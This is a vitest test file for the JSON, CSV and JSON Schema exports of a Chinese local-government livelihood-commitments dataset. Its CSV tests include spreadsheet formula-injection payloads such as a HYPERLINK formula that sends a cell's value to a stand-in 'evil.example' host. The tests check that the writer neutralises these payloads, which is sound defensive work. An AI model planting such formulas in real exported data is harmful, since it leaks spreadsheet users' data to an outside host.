/**
 * Open data: the year's JSON and CSV, the per-notice JSON and the JSON Schema,
 * built from a small hand-made model and from the built-in content.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { Actual, Commitment, CommitmentEntry, Notice, NoticeEntry, NoticeMeta, Target, UnitRecord, UnitRegistry } from '../src/lib/schema.ts';
import { buildModel } from '../src/lib/site/model.ts';
import { parseNotice } from '../src/lib/parse/notice.ts';
import { datasetPath, noticeDataPath } from '../src/lib/content/paths.ts';
import {
  csvColumns,
  csvField,
  csvOf,
  Dataset,
  datasetJsonSchema,
  datasetOf,
  jsonText,
  noticeDataOf,
  schemaFields,
  siteFields,
  siteOptions,
  targetCell,
  noticeShare,
  yearFiles,
  yearTexts,
} from '../src/lib/data/dataset.ts';
import type { NoticeShare, Part } from '../src/lib/data/dataset.ts';
import { commitment, notice, oneYear, otherSourceSha256, places, registry, unit, units } from './helpers/records.ts';

// ---------------------------------------------------------------------------
// A hand-built model (every record checked against the content schemas).

const options = { site: 'https://example.org', base: '/minsheng/' };

const shizhongNotice = notice(places.shizhong, {
  sourceNote: '原始发布网址不详。',
  topicOverrides: { '2': 'health' },
  issuer: '济南市市中区人民政府',
  date: '2023-01-10',
  groups: [{ number: 1, name: '促进就业', declaredCount: 1, items: [1], source: { startLine: 2, endLine: 2 } }],
  passages: [{ role: 'title', text: '2023年区政府为民办实事事项', source: { startLine: 1, endLine: 1 } }],
  warnings: [{ line: 0, message: '原文未写明文号。' }],
  commitmentCount: 2,
});

const xiangshanNotice = notice(places.xiangshan, {
  sourceUrl: 'https://www.example.gov.cn/notice.html',
  title: '关于印发相山区2023年民生实事的通知',
  sourceSha256: otherSourceSha256,
});

/** A wording with an ASCII comma, double quotes and a line break: every reason to quote a CSV field. */
const awkwardText = '新增就业1.78万人以上, 建设"家门口"就业服务站675个\n（区人社局牵头）';

const commitments = [
  commitment(places.shizhong, 2, {
    title: '开展“两癌”筛查',
    text: '开展“两癌”筛查不少于5000人。',
    leadUnits: ['区卫健委'],
    targets: [{ value: 5000, unit: '人', text: '筛查不少于5000人', comparator: '>=' }],
    source: { startLine: 5, endLine: 5 },
    topic: { slug: 'health', how: 'override' },
  }),
  commitment(places.shizhong, 1, {
    title: '促进就业',
    text: awkwardText,
    category: '促进就业',
    leadUnits: ['区人社局'],
    coUnits: ['区财政局', '各街道'],
    level: 'city',
    subItems: ['新增就业1.78万人', '建设服务站，覆盖全部社区'],
    measures: ['摸底调查'],
    targets: [
      { value: 17800, unit: '人', text: '新增就业1.78万人以上', comparator: '>=' },
      { value: 675, unit: '个', text: '建设"家门口"就业服务站675个' },
    ],
    source: { startLine: 3, endLine: 4 },
    appendixSource: { startLine: 20, endLine: 22 },
    topic: { slug: 'employment', how: 'heading', matched: '就业' },
  }),
  commitment(places.xiangshan, 1, {
    title: '改造老旧小区',
    text: '改造老旧小区12个，约3000户。',
    targets: [
      { value: 12, unit: '个', text: '改造老旧小区12个' },
      { value: 3000, unit: '户', text: '约3000户', comparator: '~' },
    ],
    topic: { slug: 'housing-renewal', how: 'rule', matched: '老旧小区' },
  }),
];

const registries = [registry(places.shizhong, [units.renshe, unit('cai-zheng-ju', '区财政局', ['区财政局'], 'finance')])];

const year2023 = oneYear([shizhongNotice, xiangshanNotice], commitments, registries);

// ---------------------------------------------------------------------------
// Helpers written for the tests.

/** Parses RFC 4180 text (no BOM) into records of fields; throws on a malformed quote or a bare CR/LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const ch = text[i];
    if (ch === '"' && field === '') {
      // A quoted field: up to the closing quote, "" standing for one quote.
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, q);
        if (text[q + 1] === '"') {
          field += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
      const next = text[i];
      if (next !== ',' && next !== '\r') throw new Error(`text after a closing quote at ${i}`);
    } else if (ch === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`a CR without LF at ${i}`);
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (ch === '\n' || ch === '"') {
      throw new Error(`a bare ${ch === '\n' ? 'LF' : 'quote'} in an unquoted field at ${i}`);
    } else {
      field += ch;
      i++;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the last record does not end with CRLF');
  return records;
}

/** Returns the CSV's records as objects keyed by the header. */
function csvRows(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/u, ''));
  if (!header) throw new Error('no header');
  return rows.map((fields) => Object.fromEntries(header.map((name, i) => [name, fields[i] ?? ''])));
}

type Json = Record<string, unknown>;

/** Keywords the tiny validator checks, and annotations it may ignore. */
const checked = new Set([
  'type',
  'properties',
  'required',
  'additionalProperties',
  'items',
  'anyOf',
  '$ref',
  'enum',
  'const',
  'pattern',
  'minLength',
  'minimum',
  'maximum',
  'exclusiveMinimum',
  'minItems',
  'format',
]);
const annotations = new Set(['$schema', '$id', '$defs', 'title', 'description']);

/** Validates `value` against a JSON Schema (the subset zod emits); returns the errors, with paths. */
function validate(schema: Json, value: unknown, root: Json = schema, path = '$'): string[] {
  const unknown = Object.keys(schema).filter((k) => !checked.has(k) && !annotations.has(k));
  if (unknown.length > 0) return [`${path}: the tiny validator does not know ${unknown.join(', ')}`];
  const errors: string[] = [];
  const ref = schema['$ref'];
  if (typeof ref === 'string') {
    const name = ref.replace(/^#\/\$defs\//u, '');
    const def = (root['$defs'] as Record<string, Json> | undefined)?.[name];
    if (!def) return [`${path}: unresolved ${ref}`];
    errors.push(...validate(def, value, root, path));
  }
  const anyOf = schema['anyOf'];
  if (Array.isArray(anyOf) && !anyOf.some((branch) => validate(branch as Json, value, root, path).length === 0)) errors.push(`${path}: matches no anyOf branch`);
  const type = schema['type'];
  if (typeof type === 'string') {
    const actual = value === null ? 'null' : Array.isArray(value) ? 'array' : typeof value;
    const ok = type === 'integer' ? Number.isInteger(value) : type === 'number' ? typeof value === 'number' : actual === type;
    if (!ok) return [...errors, `${path}: expected ${type}, got ${actual}`];
  }
  const en = schema['enum'];
  if (Array.isArray(en) && !en.includes(value)) errors.push(`${path}: ${JSON.stringify(value)} is not one of ${JSON.stringify(en)}`);
  if ('const' in schema && schema['const'] !== value) errors.push(`${path}: expected ${JSON.stringify(schema['const'])}`);
  if (typeof value === 'string') {
    const pattern = schema['pattern'];
    if (typeof pattern === 'string' && !new RegExp(pattern, 'u').test(value)) errors.push(`${path}: ${JSON.stringify(value)} does not match ${pattern}`);
    const minLength = schema['minLength'];
    if (typeof minLength === 'number' && [...value].length < minLength) errors.push(`${path}: shorter than ${minLength}`);
    if (schema['format'] === 'uri' && !URL.canParse(value)) errors.push(`${path}: not a URI`);
  }
  if (typeof value === 'number') {
    const { minimum, maximum, exclusiveMinimum } = schema;
    if (typeof minimum === 'number' && value < minimum) errors.push(`${path}: below ${minimum}`);
    if (typeof maximum === 'number' && value > maximum) errors.push(`${path}: above ${maximum}`);
    if (typeof exclusiveMinimum === 'number' && value <= exclusiveMinimum) errors.push(`${path}: not above ${exclusiveMinimum}`);
  }
  if (Array.isArray(value)) {
    const minItems = schema['minItems'];
    if (typeof minItems === 'number' && value.length < minItems) errors.push(`${path}: fewer than ${minItems} items`);
    const items = schema['items'];
    if (items) value.forEach((item, i) => errors.push(...validate(items as Json, item, root, `${path}[${i}]`)));
  }
  if (typeof value === 'object' && value !== null && !Array.isArray(value)) {
    const object = value as Json;
    const properties = (schema['properties'] ?? {}) as Record<string, Json>;
    for (const key of (schema['required'] ?? []) as string[]) if (!(key in object)) errors.push(`${path}: missing required ${key}`);
    for (const [key, v] of Object.entries(object)) {
      const property = properties[key];
      if (property) errors.push(...validate(property, v, root, `${path}.${key}`));
      else if (schema['additionalProperties'] === false) errors.push(`${path}: unexpected ${key}`);
    }
  }
  return errors;
}

/** Returns a deep copy of JSON data. */
function copy<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

// ---------------------------------------------------------------------------

describe('the year dataset', () => {
  const dataset = datasetOf(year2023, options);
  const shizhong = dataset.notices.find((n) => n.slug === 'jinan-shizhong');
  const employment = shizhong?.commitments.find((c) => c.number === 1);

  test('validates against the Dataset schema', () => {
    expect(Dataset.safeParse(dataset).success).toBe(true);
  });

  test('says where its schema and its site are, and how much it holds', () => {
    expect(dataset.$schema).toBe('https://example.org/minsheng/data/schema.json');
    expect(dataset.site).toBe('https://example.org/minsheng/');
    expect(dataset.year).toBe(2023);
    expect(dataset.noticeCount).toBe(2);
    expect(dataset.commitmentCount).toBe(3);
  });

  test('keeps the site order of districts (province, city, district) and the number order of commitments', () => {
    expect(dataset.notices.map((n) => n.slug)).toEqual(['huaibei-xiangshan', 'jinan-shizhong']);
    expect(shizhong?.commitments.map((c) => c.number)).toEqual([1, 2]);
  });

  test('gives the keys in the same order every time, the parse record first and the site fields after', () => {
    expect(Object.keys(dataset)).toEqual(['$schema', 'year', 'site', 'license', 'noticeCount', 'commitmentCount', 'notices']);
    expect(Object.keys(shizhong ?? {})).toEqual([
      'slug',
      'year',
      'province',
      'city',
      'district',
      'districtFull',
      'sourceUrl',
      'sourceNote',
      'kind',
      'title',
      'issuer',
      'date',
      'groups',
      'passages',
      'warnings',
      'commitmentCount',
      'sourceFile',
      'sourceSha256',
      'permalink',
      'sourcePermalink',
      'units',
      'commitments',
    ]);
    expect(Object.keys(employment ?? {})).toEqual([
      'number',
      'title',
      'text',
      'category',
      'leadUnits',
      'coUnits',
      'level',
      'subItems',
      'measures',
      'targets',
      'source',
      'appendixSource',
      'topic',
      'year',
      'district',
      'permalink',
      'id',
      'leadUnitsNormalized',
      'coUnitsNormalized',
      'status',
      'statusAsOf',
    ]);
    expect(Object.keys(employment?.topic ?? {})).toEqual(['slug', 'name', 'how', 'matched']);
  });

  test('leaves out the editors’ topic overrides, which the topic’s `how` already tells', () => {
    expect(shizhong && 'topicOverrides' in shizhong).toBe(false);
    expect(shizhong?.commitments[1]?.topic).toEqual({ slug: 'health', name: '医疗卫生', how: 'override' });
  });

  test('gives absolute URLs under the base path and a permanent identifier', () => {
    expect(shizhong?.permalink).toBe('https://example.org/minsheng/2023/jinan-shizhong/');
    expect(shizhong?.sourcePermalink).toBe('https://example.org/minsheng/2023/jinan-shizhong/source/');
    expect(employment?.permalink).toBe('https://example.org/minsheng/2023/jinan-shizhong/1/');
    expect(employment?.id).toBe('minsheng:2023/jinan-shizhong/1');
  });

  test('names the topic of each commitment', () => {
    expect(employment?.topic).toEqual({ slug: 'employment', name: '就业创业', how: 'heading', matched: '就业' });
  });

  test('resolves units through the registry’s aliases, keeping the wording and the order', () => {
    expect(employment?.leadUnitsNormalized).toEqual([
      { asWritten: '区人社局', name: '区人力资源和社会保障局', slug: 'ren-li-zi-yuan-he-she-hui-bao-zhang-ju', function: 'human-resources' },
    ]);
    expect(employment?.coUnitsNormalized.map((u) => [u.asWritten, u.slug])).toEqual([
      ['区财政局', 'cai-zheng-ju'],
      ['各街道', null],
    ]);
    expect(employment?.leadUnits).toEqual(['区人社局']);
  });

  test('falls back to the taxonomy’s full name, with a null slug, for a unit the registry does not know', () => {
    expect(shizhong?.commitments[1]?.leadUnitsNormalized).toEqual([{ asWritten: '区卫健委', name: '区卫生健康委员会', slug: null, function: 'health' }]);
  });

  test('carries the district’s department registry', () => {
    expect(shizhong?.units.map((u) => u.slug)).toEqual(['cai-zheng-ju', 'ren-li-zi-yuan-he-she-hui-bao-zhang-ju']);
    expect(dataset.notices[0]?.units).toEqual([]);
  });

  test('is the same text every time it is built', () => {
    expect(jsonText(datasetOf(year2023, options))).toBe(jsonText(dataset));
    const reordered = buildModel([xiangshanNotice, shizhongNotice], [...commitments].reverse(), registries)[0];
    expect(reordered && jsonText(datasetOf(reordered, options))).toBe(jsonText(dataset));
  });

  test('is written as JSON with two-space indentation and a final newline', () => {
    const text = jsonText({ a: [1] });
    expect(text).toBe('{\n  "a": [\n    1\n  ]\n}\n');
  });
});

describe('the per-notice dataset', () => {
  test('is a Dataset holding the one notice, the same as in the year’s file', () => {
    const district = year2023.districts.find((d) => d.notice.slug === 'jinan-shizhong');
    if (!district) throw new Error('no district');
    const data = noticeDataOf(district, options);
    expect(Dataset.safeParse(data).success).toBe(true);
    expect(data.noticeCount).toBe(1);
    expect(data.commitmentCount).toBe(2);
    expect(data.notices).toEqual(datasetOf(year2023, options).notices.filter((n) => n.slug === 'jinan-shizhong'));
  });

  test('has its paths beside the year’s files', () => {
    expect(datasetPath(2023, 'json')).toBe('/data/2023.json');
    expect(datasetPath(2023, 'csv')).toBe('/data/2023.csv');
    expect(noticeDataPath({ year: 2023, slug: 'jinan-shizhong' })).toBe('/data/2023/jinan-shizhong.json');
  });
});

describe('a year’s files, made once per build', () => {
  test('are its counts, its JSON and its CSV, put together from each notice’s share the same as made whole', () => {
    const files = yearFiles(year2023, options);
    const dataset = datasetOf(year2023, options);
    expect(files.json.toString('utf8')).toBe(jsonText(dataset));
    expect(files.csv.toString('utf8')).toBe(csvOf(year2023, options));
    expect([files.noticeCount, files.commitmentCount]).toEqual([dataset.noticeCount, dataset.commitmentCount]);
    expect(dataset.noticeCount).toBeGreaterThan(1);
    // A year of one notice, and a year of none, are put together the same way.
    const one = { ...year2023, districts: year2023.districts.slice(0, 1) };
    expect(
      yearTexts(
        one,
        options,
        one.districts.map((d) => noticeShare(d, options)),
      ).json,
    ).toBe(jsonText(datasetOf(one, options)));
    const none = { ...year2023, districts: [] };
    expect(yearTexts(none, options, []).json).toBe(jsonText({ ...datasetOf(one, options), noticeCount: 0, commitmentCount: 0, notices: [] }));
  });

  test('take each notice’s share from the source given, which may keep it', () => {
    const asked: string[] = [];
    const [first, second] = year2023.districts.map((d) => d.notice.slug);
    const kept = new Map(year2023.districts.map((d) => [d.notice.slug, noticeShare(d, options)]));
    const files = yearFiles(year2023, { ...options, base: '/kept/' }, (district, make) => {
      asked.push(district.notice.slug);
      return district.notice.slug === first ? (kept.get(first) as NoticeShare) : make();
    });
    expect(asked).toEqual(year2023.districts.map((d) => d.notice.slug));
    // The share kept was made for the other base: its URLs say so, the others' the base asked for.
    const json = files.json.toString('utf8');
    expect(json).toContain(`"permalink": "https://example.org/minsheng/2023/${first}/"`);
    expect(json).not.toContain(`"permalink": "https://example.org/kept/2023/${first}/"`);
    expect(json).toContain(`"permalink": "https://example.org/kept/2023/${second}/"`);
  });

  test('are made once for a year and site, and again for another site or base', () => {
    const first = yearFiles(year2023, options);
    expect(yearFiles(year2023, { ...options })).toBe(first);
    expect(first.json).toBe(first.json);
    const elsewhere = yearFiles(year2023, { site: 'https://example.com', base: '/' });
    expect(elsewhere).not.toBe(first);
    expect(elsewhere.json.toString('utf8')).toContain('"site": "https://example.com/"');
    expect(first.json.toString('utf8')).toContain('"site": "https://example.org/minsheng/"');
  });
});

describe('the CSV', () => {
  const csv = csvOf(year2023, options);
  const rows = csvRows(csv);

  test('starts with a byte-order mark', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect([...Buffer.from(csv, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  test('ends every record, the last too, with CRLF', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    // parseCsv refuses a bare LF or CR outside quotes.
    expect(() => parseCsv(csv.slice(1))).not.toThrow();
  });

  test('has a header of stable English column names', () => {
    expect(csv.slice(1, csv.indexOf('\r\n')).split(',')).toEqual([
      'id',
      'year',
      'districtSlug',
      'province',
      'city',
      'districtName',
      'districtFull',
      'noticeTitle',
      'issuer',
      'date',
      'docNumber',
      'number',
      'title',
      'text',
      'category',
      'level',
      'topic',
      'topicName',
      'topicHow',
      'topicMatched',
      'topicAlso',
      'leadUnits',
      'leadUnitsNormalized',
      'coUnits',
      'coUnitsNormalized',
      'targets',
      'subItems',
      'measures',
      'sourceStartLine',
      'sourceEndLine',
      'appendixStartLine',
      'appendixEndLine',
      'status',
      'statusAsOf',
      'statusWords',
      'actuals',
      'permalink',
      'sourceUrl',
    ]);
  });

  test('has one row per commitment, in district order, then number', () => {
    expect(rows.map((r) => r['id'])).toEqual(['minsheng:2023/huaibei-xiangshan/1', 'minsheng:2023/jinan-shizhong/1', 'minsheng:2023/jinan-shizhong/2']);
  });

  test('quotes a text with a comma, quotes and a line break, and reads back unchanged', () => {
    expect(csv).toContain('"新增就业1.78万人以上, 建设""家门口""就业服务站675个\n（区人社局牵头）"');
    expect(rows[1]?.['text']).toBe(awkwardText);
  });

  test('writes lists, targets, line ranges and absent values as documented', () => {
    expect(rows[1]).toMatchObject({
      leadUnits: '区人社局',
      leadUnitsNormalized: '区人力资源和社会保障局',
      coUnits: '区财政局、各街道',
      coUnitsNormalized: '区财政局、各街道',
      targets: '>=17800 人；675 个',
      subItems: '新增就业1.78万人\n建设服务站，覆盖全部社区',
      measures: '摸底调查',
      level: 'city',
      category: '促进就业',
      topic: 'employment',
      topicName: '就业创业',
      topicHow: 'heading',
      topicMatched: '就业',
      sourceStartLine: '3',
      sourceEndLine: '4',
      appendixStartLine: '20',
      appendixEndLine: '22',
      date: '2023-01-10',
      docNumber: '',
      sourceUrl: '',
      permalink: 'https://example.org/minsheng/2023/jinan-shizhong/1/',
    });
    expect(rows[1]).toMatchObject({ status: '未见报告', statusAsOf: '', statusWords: '', actuals: '' });
    expect(rows[0]).toMatchObject({ targets: '12 个；~3000 户', leadUnits: '', level: '', appendixStartLine: '', sourceUrl: 'https://www.example.gov.cn/notice.html' });
  });

  test('keeps Chinese byte for byte in UTF-8', () => {
    const bytes = Buffer.from(csv, 'utf8');
    expect(bytes.includes(Buffer.from([0xe5, 0x8c, 0xba, 0xe4, 0xba, 0xba, 0xe7, 0xa4, 0xbe, 0xe5, 0xb1, 0x80]))).toBe(true); // 区人社局
    expect(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)).toBe(csv);
    expect(rows[0]?.['districtFull']).toBe('淮北市相山区');
  });

  test('quotes a field only when it holds a comma, a double quote, CR or LF', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField('新增托位675个，覆盖、全区')).toBe('新增托位675个，覆盖、全区');
    expect(csvField('')).toBe('');
  });

  test.each([
    ['=', '=HYPERLINK("https://evil.example/","点这里")', `"'=HYPERLINK(""https://evil.example/"",""点这里"")"`],
    ['+', '+1+1区财政局', `"'+1+1区财政局"`],
    ['-', '-2+3', `"'-2+3"`],
    ['@', '@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('neutralizes a cell that starts with %s: a single quote before it, and quoted', (_start, value, field) => {
    expect(csvField(value)).toBe(field);
  });

  test('leaves a cell alone when a formula character is not its first', () => {
    expect(csvField('1+1=2')).toBe('1+1=2');
    expect(csvField('区财政局@')).toBe('区财政局@');
    expect(csvField('>=17800 人')).toBe('>=17800 人');
  });

  test('writes hostile wording inert in the CSV and verbatim in the JSON', () => {
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"点击查看")';
    const year = oneYear(
      [notice(places.xiangshan)],
      [commitment(places.xiangshan, 1, { title: '@SUM(1+1)', text: hostile, leadUnits: ['=1+1区财政局'], topic: { slug: 'employment', how: 'rule', matched: '就业' } })],
    );
    const row = csvRows(csvOf(year, options))[0];
    expect(row).toMatchObject({ text: `'${hostile}`, title: "'@SUM(1+1)", leadUnits: "'=1+1区财政局" });
    const json = datasetOf(year, options).notices[0]?.commitments[0];
    expect(json).toMatchObject({ text: hostile, title: '@SUM(1+1)', leadUnits: ['=1+1区财政局'] });
  });

  test('writes a target as its comparator, value and unit', () => {
    const t = (value: number, unit: string, comparator?: Target['comparator']): Target => (comparator ? { value, unit, text: '原文', comparator } : { value, unit, text: '原文' });
    expect(targetCell(t(17800, '人', '>='))).toBe('>=17800 人');
    expect(targetCell(t(5, '%', '<='))).toBe('<=5 %');
    expect(targetCell(t(1.5, '万元', '~'))).toBe('~1.5 万元');
    expect(targetCell(t(675, '个'))).toBe('675 个');
  });

  test('documents every column in Chinese, each name once', () => {
    expect(new Set(csvColumns.map((c) => c.name)).size).toBe(csvColumns.length);
    for (const column of csvColumns) {
      expect(column.name).toMatch(/^[a-z][A-Za-z]*$/u);
      expect(column.description).toMatch(/\p{Script=Han}/u);
    }
  });
});

describe('the JSON Schema', () => {
  const schema = datasetJsonSchema(options);
  const dataset = copy(datasetOf(year2023, options));
  const defs = schema['$defs'] as Record<string, Json>;

  test('is draft 2020-12 with its own address and a title', () => {
    expect(schema['$schema']).toBe('https://json-schema.org/draft/2020-12/schema');
    expect(schema['$id']).toBe('https://example.org/minsheng/data/schema.json');
    expect(schema['title']).toBe('民生实事开放数据');
    expect(Object.keys(defs)).toEqual(['DatasetNotice', 'DatasetCommitment', 'NormalizedUnit']);
  });

  test('lists required fields that every produced record has', () => {
    const required = (s: Json | undefined): string[] => (s?.['required'] ?? []) as string[];
    expect(required(schema)).toEqual(['$schema', 'year', 'site', 'license', 'noticeCount', 'commitmentCount', 'notices']);
    expect(required(defs['DatasetCommitment'])).toEqual(expect.arrayContaining(['number', 'title', 'text', 'topic', 'permalink', 'id', 'leadUnitsNormalized']));
    for (const key of required(schema)) expect(dataset).toHaveProperty([key]);
    for (const notice of dataset.notices) {
      for (const key of required(defs['DatasetNotice'])) expect(notice).toHaveProperty([key]);
      for (const c of notice.commitments) {
        for (const key of required(defs['DatasetCommitment'])) expect(c).toHaveProperty([key]);
        for (const u of [...c.leadUnitsNormalized, ...c.coUnitsNormalized]) for (const key of required(defs['NormalizedUnit'])) expect(u).toHaveProperty([key]);
      }
    }
  });

  test('validates the produced JSON, the year’s and a notice’s', () => {
    expect(validate(schema, dataset)).toEqual([]);
    const district = year2023.districts[0];
    if (!district) throw new Error('no district');
    expect(validate(schema, copy(noticeDataOf(district, options)))).toEqual([]);
  });

  test('rejects JSON that breaks the contract', () => {
    const missing = copy(dataset);
    const c = missing.notices[1]?.commitments[0] as Record<string, unknown> | undefined;
    if (c) delete c['topic'];
    expect(validate(schema, missing)).toEqual(['$.notices[1].commitments[0]: missing required topic']);
    const extra = copy(dataset) as Record<string, unknown>;
    extra['generatedAt'] = '2024-01-01';
    expect(validate(schema, extra)).toEqual(['$: unexpected generatedAt']);
    const badLevel = copy(dataset);
    const first = badLevel.notices[1]?.commitments[0] as Record<string, unknown> | undefined;
    if (first) first['level'] = 'county';
    expect(validate(schema, badLevel)).toEqual(['$.notices[1].commitments[0].level: "county" is not one of ["city","province"]']);
  });

  test('describes every field in Chinese', () => {
    const fields = schemaFields(schema);
    for (const part of Object.keys(fields) as Part[]) {
      for (const row of fields[part]) expect(row.description, `${part}: ${row.path}`).toMatch(/\p{Script=Han}/u);
    }
  });

  test('takes each description from the zod schema of the field, with the description before the type', () => {
    const rows = schemaFields(schema);
    const described = (part: Part, path: string): string | undefined => rows[part].find((r) => r.path === path)?.description;
    expect(described('DatasetNotice', 'slug')).toBe(NoticeMeta.shape.slug.description);
    expect(described('DatasetNotice', 'units[].name')).toBe(UnitRecord.shape.name.description);
    expect(described('DatasetCommitment', 'title')).toBe(Commitment.shape.title.description);
    expect(described('DatasetCommitment', 'targets[].value')).toBe(Target.shape.value.description);
    expect(described('DatasetCommitment', 'statusHistory[].figures[].actual.unit')).toBe(Actual.shape.unit.description);
    // A figure's target says what its fields are as a target, not as a reading of the text.
    expect(described('DatasetCommitment', 'statusHistory[].figures[].target.value')).not.toBe(Target.shape.value.description);
    const commitment = (defs['DatasetCommitment'] as { properties: Record<string, Json> }).properties;
    expect(Object.keys(commitment['title'] ?? {})[0]).toBe('description');
  });

  test('gives the field table types and whether a field is always there', () => {
    const rows = schemaFields(schema);
    expect(rows.DatasetNotice.find((r) => r.path === 'sourceUrl')).toMatchObject({ type: 'string | null', required: true });
    expect(rows.DatasetNotice.find((r) => r.path === 'groups[].declaredCount')).toMatchObject({ type: 'integer', required: false });
    expect(rows.DatasetNotice.find((r) => r.path === 'commitments')).toMatchObject({ type: 'array<DatasetCommitment>', required: true });
    expect(rows.DatasetCommitment.find((r) => r.path === 'targets[].comparator')).toMatchObject({ type: 'string', required: false });
    expect(rows.NormalizedUnit.map((r) => r.path)).toEqual(['asWritten', 'name', 'slug', 'function']);
  });

  test('is the same every time', () => {
    expect(jsonText(datasetJsonSchema(options))).toBe(jsonText(schema));
  });
});

describe('the fields the site adds to the parse record', () => {
  test('are the metadata, pages and units of a notice and the topic, URL, identifier and units of a commitment', () => {
    expect(siteFields.notice).toEqual([
      'slug',
      'province',
      'city',
      'district',
      'districtFull',
      'sourceUrl',
      'sourceNote',
      'original',
      'commitmentCount',
      'sourceFile',
      'sourceSha256',
      'permalink',
      'sourcePermalink',
      'units',
    ]);
    expect(siteFields.commitment).toEqual(['topic', 'year', 'district', 'permalink', 'statusHistory', 'id', 'leadUnitsNormalized', 'coUnitsNormalized', 'status', 'statusAsOf']);
  });
});

// ---------------------------------------------------------------------------
// The built-in content.

const content = join(import.meta.dirname, '..', 'content');

/** Returns the YAML frontmatter of a Markdown file. */
function frontmatter(path: string): unknown {
  const match = /^---\n([\s\S]*?)\n---\n/u.exec(readFileSync(path, 'utf8'));
  if (!match?.[1]) throw new Error(`${path} has no frontmatter`);
  return parseYaml(match[1]);
}

describe('the 2023 dataset of the built-in content', () => {
  const noticeDir = join(content, 'notices', '2023');
  const noticeFiles = readdirSync(noticeDir).sort();
  const notices = noticeFiles.filter((f) => f.endsWith('.md')).map((f) => NoticeEntry.parse(frontmatter(join(noticeDir, f))));
  const registries = noticeFiles.filter((f) => f.endsWith('.units.yaml')).map((f) => UnitRegistry.parse(parseYaml(readFileSync(join(noticeDir, f), 'utf8'))));
  const commitmentDir = join(content, 'commitments', '2023');
  const entries = readdirSync(commitmentDir, { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.md'))
    .sort()
    .map((f) => CommitmentEntry.parse(frontmatter(join(commitmentDir, f))));
  const year = buildModel(notices, entries, registries).find((y) => y.year === 2023);
  if (!year) throw new Error('no 2023 in the built-in content');
  const site = { site: 'https://minsheng.example.org', base: '/' };
  const dataset = datasetOf(year, site);

  test('holds 5 notices and 124 commitments and validates', () => {
    expect(dataset.noticeCount).toBeGreaterThan(1);
    expect(dataset.commitmentCount).toBe(124);
    expect(dataset.notices.flatMap((n) => n.commitments)).toHaveLength(124);
    expect(Dataset.safeParse(dataset).success).toBe(true);
    expect(validate(datasetJsonSchema(site), copy(dataset))).toEqual([]);
  });

  test('resolves every unit the notices name through their registries', () => {
    const units = dataset.notices.flatMap((n) => n.commitments.flatMap((c) => [...c.leadUnitsNormalized, ...c.coUnitsNormalized]));
    expect(units.length).toBeGreaterThan(0);
    expect(units.filter((u) => u.slug === null)).toEqual([]);
    expect(units.filter((u) => u.asWritten.includes('、'))).toEqual([]);
  });

  test('is, without the site fields, what the parser makes of each notice text', () => {
    for (const notice of dataset.notices) {
      const parsed = parseNotice(readFileSync(join(content, notice.sourceFile), 'utf8'));
      if (!parsed.ok) throw new Error(parsed.error.message);
      expect(Notice.parse(notice)).toEqual(parsed.notice);
    }
  });

  test('gives a CSV with one row per commitment that reads back to the JSON’s texts', () => {
    const rows = csvRows(csvOf(year, site));
    expect(rows).toHaveLength(124);
    expect(rows.map((r) => r['text'])).toEqual(dataset.notices.flatMap((n) => n.commitments.map((c) => c.text)));
    expect(rows.map((r) => r['id'])).toEqual(dataset.notices.flatMap((n) => n.commitments.map((c) => c.id)));
  });
});

describe('the licence in the data files', () => {
  test('names CC BY 4.0 for the compiled data and says the notices are reproduced official documents', () => {
    const data = datasetOf(oneYear([notice(places.xiangshan)], [commitment(places.xiangshan, 1)]), siteOptions(new URL('https://example.org'), '/'));
    expect(data.license.spdx).toBe('CC-BY-4.0');
    expect(data.license.url).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(data.license.notices).toContain('著作权法》第五条');
  });
});
